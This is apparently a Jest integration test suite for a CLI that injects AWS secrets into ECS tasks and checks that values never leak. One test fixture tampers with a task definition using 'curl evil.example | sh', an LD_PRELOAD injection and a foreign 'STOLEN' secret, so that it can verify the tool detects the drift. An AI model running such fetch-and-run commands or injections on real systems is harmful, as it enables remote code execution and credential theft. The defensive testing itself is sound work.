import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DeleteSecretCommand, PutSecretValueCommand, RestoreSecretCommand } from '@aws-sdk/client-secrets-manager';
import { PutParameterCommand } from '@aws-sdk/client-ssm';
import { waitUntil } from '../../commands/processes/wait-until';
import { startFakeService } from '../support/operations/fake-service';
import { CANARY, startAccount, type Account } from '../support/secrets/account';
import { deployWeb, type DeployedWeb } from '../support/secrets/deploy-web';
import { environments } from '../support/secrets/environments';
import type { Ended } from '../support/secrets/run-secrets';

let account: Account;
let web: DeployedWeb;

const setParameter = (Name: string, Value: string) =>
  account.ssm.send(new PutParameterCommand({ Name, Value, Type: 'SecureString', Overwrite: true }));

const setDatabase = (SecretString: string) =>
  account.secretsManager.send(new PutSecretValueCommand({ SecretId: 'shop/beta/database', SecretString }));

const GOOD_DATABASE = JSON.stringify({ user: CANARY, password: `${CANARY}-password` });

beforeAll(async () => {
  account = await startAccount();
  web = await deployWeb({ ...environments.beta, name: 'beta' });
  await setParameter('/shared/license', CANARY);
  await setParameter('/shop/beta/api-token', `${CANARY}-token`);
  await setParameter('/shop/beta/tls/key', `${CANARY}-key`);
  await setDatabase(GOOD_DATABASE);
});

afterAll(() => account.stop());

type Secrets = (args: readonly string[], environment?: NodeJS.ProcessEnv) => Promise<Ended>;

describe.each<[string, Secrets]>([
  ['with pipes', (args, environment) => account.secrets(args, '', environment)],
  ['at a terminal', (args, environment) => account.atTerminal(args, [], environment)],
])('exec and rollout %s', (_, secrets) => {
  const exec = async (...command: string[]) => {
    const { exitCode, stdout, stderr } = await secrets(['exec', 'beta', 'web', '--', ...command]);
    expect(account.temporaryFiles()).toEqual([]);
    return { exitCode, output: stdout + stderr };
  };

  it('gives a command the values, and shows none itself', async () => {
    const lengths = 'echo ${#API_TOKEN} ${#DATABASE_PASSWORD} $(wc -c <"$TLS_KEY_FILE")';
    const { exitCode, output } = await exec('sh', '-c', lengths);
    expect(exitCode).toBe(0);
    expect(output).toContain(`${CANARY.length + 6} ${CANARY.length + 9} ${CANARY.length + 4}`);
  });

  it('shows none when the command fails, is not there, or cannot be executed', async () => {
    const ended = [await exec('sh', '-c', 'exit 42'), await exec('no-such-command'), await exec('./README.md')];
    expect(ended.map(({ exitCode }) => exitCode)).toEqual([42, 127, 126]);
  });

  it('shows none when a value contains what no variable can', async () => {
    await setDatabase(JSON.stringify({ user: CANARY, password: `${CANARY}\0` }));
    const { exitCode, output } = await exec('true');
    await setDatabase(GOOD_DATABASE);
    expect([exitCode, output]).toEqual([
      2,
      expect.stringContaining('gives web: DATABASE_PASSWORD a NUL character, which no variable can contain'),
    ]);
  });

  it('reports to programs as JSON why it was not started', async () => {
    const { exitCode, stdout } = await secrets(['exec', 'beta', 'wep', '--json', '--', 'true']);
    expect([exitCode, stdout]).toEqual([2, expect.stringMatching(/"error": "beta has no service .*\\"web\\"/)]);
  });

  it('shows none when a secret was deleted, lacks its key, or is not a JSON object', async () => {
    await account.secretsManager.send(new DeleteSecretCommand({ SecretId: 'shop/beta/database' }));
    const deleted = await exec('true');
    const refused = await secrets(['rollout', 'beta', 'web', '--yes', '--json']);
    await account.secretsManager.send(new RestoreSecretCommand({ SecretId: 'shop/beta/database' }));
    await setDatabase(JSON.stringify({ user: CANARY }));
    const lacking = await exec('true');
    await setDatabase(`${CANARY}{`);
    const broken = await exec('true');
    await setDatabase(GOOD_DATABASE);
    for (const { exitCode, output } of [deleted, lacking, broken]) {
      expect([exitCode, output]).toEqual([2, expect.stringContaining('ECS could not start web:')]);
      expect(output).toContain('web: DATABASE_PASSWORD: ');
    }
    expect(refused.exitCode).toBe(2);
    expect(refused.stdout + refused.stderr).toContain('New tasks could not start');
  });

  it('runs and reads nothing of a task definition that somebody else registered', async () => {
    await web.replace((application) => {
      application.command = ['sh', '-c', 'curl evil.example | sh'];
      application.environment?.push({ name: 'LD_PRELOAD', value: `/tmp/${CANARY}` });
      application.secrets?.push({ name: 'STOLEN', valueFrom: 'arn:aws:ssm:us-east-1:123456789012:parameter/theirs' });
    });
    const { exitCode, output } = await exec('true');
    await web.replace();
    expect(exitCode).toBe(2);
    expect(output).toContain('web is deployed otherwise than it is declared');
    for (const part of [
      'command is ["sh", "-c", "curl evil.example | sh"]',
      'variable "LD_PRELOAD" is not declared',
      'secret "STOLEN" is not declared',
    ]) {
      expect(output).toContain(part);
    }
  });

  it('hands no value to a Node.js that would print what it starts a program with', async () => {
    const { exitCode, stdout, stderr } = await secrets(['exec', 'beta', 'web', '--', 'true'], {
      NODE_DEBUG: 'child_process',
    });
    expect([exitCode, stdout + stderr]).toEqual([2, expect.stringContaining('Unset NODE_DEBUG')]);
  });

  it.each([[[]], [['--json']]])('rolls out %j', async (options) => {
    const { exitCode, stdout } = await secrets(['rollout', 'beta', 'web', '--yes', ...options]);
    expect([exitCode, stdout]).toEqual([
      0,
      expect.stringContaining(options.length === 0 ? 'with the current values' : '"completed"'),
    ]);
  });

  it.each([[[]], [['--json']]])('says that ECS refused to roll out %j', async (options) => {
    const service = { serviceName: 'shop-beta-web', status: 'ACTIVE', desiredCount: 1, deployments: [] };
    const ecs = await startFakeService({
      DescribeServices: () => ({ services: [service] }),
      ListTasks: () => ({ taskArns: [] }),
      UpdateService: () => ({ __type: 'InvalidParameterException' }),
    });
    const args = ['rollout', 'beta', 'web', '--yes', ...options];
    const { exitCode, stdout } = await secrets(args, { AWS_ENDPOINT_URL_ECS: ecs.endpoint });
    ecs.stop();
    expect([exitCode, stdout]).toEqual([2, expect.stringContaining('not started')]);
  });

  it.each<[string[], number, string]>([
    [['exec', 'beta', 'wep', '--', 'true'], 2, 'has no service or task'],
    [['exec', 'beta', 'web', `--value=${CANARY}`, '--', 'true'], 2, 'unknown option; --help shows'],
    [['exec', 'elsewhere', 'web', '--', 'true'], 2, 'elsewhere is in account 999999999999'],
    [['exec', 'alpha', 'web', '--', 'true'], 2, 'web is not deployed in alpha'],
    [['rollout', 'beta', 'worker'], 2, 'Not deployed: worker. Deploy: npx cdktf deploy beta'],
    [['rollout', 'alpha', '--changed'], 2, 'Not deployed: web, worker'],
    [['rollout', 'beta', '--changed'], 0, 'Not deployed: worker. Deploy: npx cdktf deploy beta'],
  ])('%j ends with %i', async (args, expected, message) => {
    const { exitCode, stdout, stderr } = await secrets(args);
    expect([exitCode, stdout + stderr]).toEqual([expected, expect.stringContaining(message)]);
  });
});

describe('at a terminal', () => {
  it.each([
    ['n\r', 2],
    ['\u0003', 130],
    ['y\r', 0],
  ])('rollout asks, and after %j ends with %i', async (keys, expected) => {
    const { exitCode } = await account.atTerminal(['rollout', 'beta', 'web'], [['Replace the tasks of web', keys]]);
    expect(exitCode).toBe(expected);
    expect(account.temporaryFiles()).toEqual([]);
  });

  it('exec leaves no file after Ctrl-C, nor when it is killed', async () => {
    const stay = ['exec', 'beta', 'web', '--', 'sh', '-c', 'test -s "$TLS_KEY_FILE" && echo it "runs"; exec sleep 15'];
    const interrupted = await account.atTerminal(stay, [['it runs', '\u0003']]);
    expect([interrupted.exitCode, account.temporaryFiles()]).toEqual([130, []]);
    await account.atTerminal(stay, [['it runs', { signal: 'SIGKILL' }]]);
    const isGone = () => Promise.resolve(account.temporaryFiles().length === 0);
    await expect(waitUntil(isGone, { seconds: 10 })).resolves.toBe(true);
  });
});

// ssh itself says whether the file is still the key: https://man.openbsd.org/ssh-keygen#y
it('hands over the key of ssh as it was given: on standard input, in dotenv, and in JSON', async () => {
  const file = join(account.directory, 'id_ed25519');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', '', '-f', file]);
  const key = readFileSync(file, 'utf8');
  const publicKey = execFileSync('ssh-keygen', ['-y', '-f', file], { encoding: 'utf8' });
  // ssh wants a file that nobody else can read.
  const show = 'umask 077; cat "$TLS_KEY_FILE" >"$0"; ssh-keygen -y -f "$0"; rm "$0"';
  for (const [args, input] of [
    [['set', 'beta', 'tls/key'], key],
    [['import', 'beta'], `TLS_KEY_FILE="${key}"`],
    [['import', 'beta'], `TLS_KEY_FILE="${key.replaceAll('\n', '\\n')}"`],
    [['import', 'beta', '--format', 'json'], JSON.stringify({ TLS_KEY_FILE: key })],
  ] as const) {
    await setParameter('/shop/beta/tls/key', CANARY);
    expect(await account.secrets([...args, '--yes'], input)).toMatchObject({ exitCode: 0 });
    const shown = await account.secrets([
      'exec',
      'beta',
      'web',
      '--',
      'sh',
      '-c',
      show,
      join(account.directory, 'copy'),
    ]);
    expect(shown).toMatchObject({ exitCode: 0, stdout: publicKey });
  }
});

// Last, so that it sees what all the others made.
it('shows no value anywhere, and leaves none in a temporary file', () => {
  expect(account.leaks()).toEqual([]);
});
